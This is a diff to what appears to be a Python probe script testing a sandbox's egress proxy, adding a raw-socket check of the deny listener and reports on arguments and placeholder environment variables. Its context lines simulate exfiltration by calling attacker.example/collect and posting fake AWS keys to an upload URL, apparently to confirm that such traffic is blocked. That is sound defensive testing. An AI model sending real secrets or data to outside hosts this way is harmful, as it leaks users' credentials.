@@ -58,11 +58,16 @@ def dns(name: str, qtype: str) -> dict[str, Any]:
 
 
 def direct(address: str, port: int) -> dict[str, Any]:
+    """A raw connection to an address: default deny lets the connect complete at the
+    proxy's deny listener, which resets it before any byte comes back."""
+    connected = False
     try:
-        with socket.create_connection((address, port), timeout=5):
-            return {"connected": True}
+        with socket.create_connection((address, port), timeout=5) as conn:
+            connected = True
+            conn.sendall(b"GET /direct-ip HTTP/1.0\r\n\r\n")
+            return {"connected": True, "answered": bool(conn.recv(100))}
     except OSError as exc:
-        return {"connected": False, "error": str(exc)}
+        return {"connected": connected, "answered": False, "error": str(exc)}
 
 
 def allowed() -> dict[str, Any]:
@@ -79,6 +84,8 @@ def allowed() -> dict[str, Any]:
 def main(internet: str) -> None:
     results = {
         "env_key": KEY,
+        "argv": sys.argv[2:],  # `cage update` adds a word to the command
+        "placeholders": sorted(k for k, v in os.environ.items() if v == "{{" + k + "}}"),
         "allowed": allowed(),
         "blocked_host": http("GET", "https://attacker.example/collect"),
         "leak": http("POST", "https://github.com/upload", FAKE_AWS),
